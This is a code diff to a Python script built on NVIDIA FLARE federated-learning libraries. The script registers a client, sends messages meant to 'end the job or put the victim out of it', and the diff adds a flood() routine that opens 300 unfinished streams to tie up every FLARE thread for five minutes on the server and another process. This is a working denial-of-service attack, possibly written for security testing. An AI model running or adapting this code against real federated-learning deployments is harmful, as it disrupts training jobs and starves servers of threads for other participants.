@@ -18,6 +18,13 @@ from nvflare.app_common.streamers.streamer_base import KEY_DATA, KEY_DATA_SIZE, 
 from nvflare.fuel.f3.cellnet.cell import Cell
 from nvflare.fuel.f3.cellnet.defs import CellChannel, CellChannelTopic, MessageHeaderKey
 from nvflare.fuel.f3.drivers.driver_params import DriverParams
+from nvflare.fuel.f3.message import Message
+from nvflare.fuel.f3.streaming.stream_const import (
+    STREAM_CHANNEL,
+    STREAM_DATA_TOPIC,
+    StreamDataType,
+    StreamHeaderKey,
+)
 from nvflare.fuel.hci.proto import StreamChannel
 from nvflare.fuel.sec.authn import set_add_auth_headers_filters
 from nvflare.private.defs import CellMessageHeaderKeys, ClientType, JobFailureMsgKey, new_cell_message
@@ -29,6 +36,7 @@ from nvflare.widgets.fed_event import FED_EVENT_TOPIC, FedEventHeader
 from fedpeft.flare.returning_sites import AWAY
 
 CODE = 101
+STREAMS = 300
 
 
 def registered(kit: Path, port: str) -> tuple[Cell, FLContext]:
@@ -77,6 +85,19 @@ def stream(context: FLContext, channel: str, topic: str, *, file: str = "", fold
     return made
 
 
+def flood(cell: Cell, target: str) -> None:
+    """Begin streams that no chunk ends: FLARE would wait for them in all of its threads, for five minutes."""
+    for number in range(STREAMS):
+        headers = {
+            StreamHeaderKey.CHANNEL: CellChannel.AUX_COMMUNICATION,
+            StreamHeaderKey.TOPIC: "any",
+            StreamHeaderKey.STREAM_ID: number,
+            StreamHeaderKey.SEQUENCE: 0,
+            StreamHeaderKey.DATA_TYPE: StreamDataType.CHUNK,
+        }
+        cell.core_cell.fire_and_forget(STREAM_CHANNEL, STREAM_DATA_TOPIC, target, Message(headers, b"#"))
+
+
 def main(kit: Path, port: str, job: str, victim: str) -> None:
     """Send everything that could end the job or put the victim out of it."""
     cell, context = registered(kit, port)
@@ -110,6 +131,8 @@ def main(kit: Path, port: str, job: str, victim: str) -> None:
         reply = cell.send_request(target=target, channel=channel, topic=topic, request=message, timeout=10.0)
         said = reply.payload.get_return_code() if isinstance(reply.payload, Shareable) else ""
         print(topic, *filter(None, (reply.get_header(MessageHeaderKey.RETURN_CODE), said)), flush=True)
+    for target in ("server", process):
+        flood(cell, target)
     cell.stop()
 
 
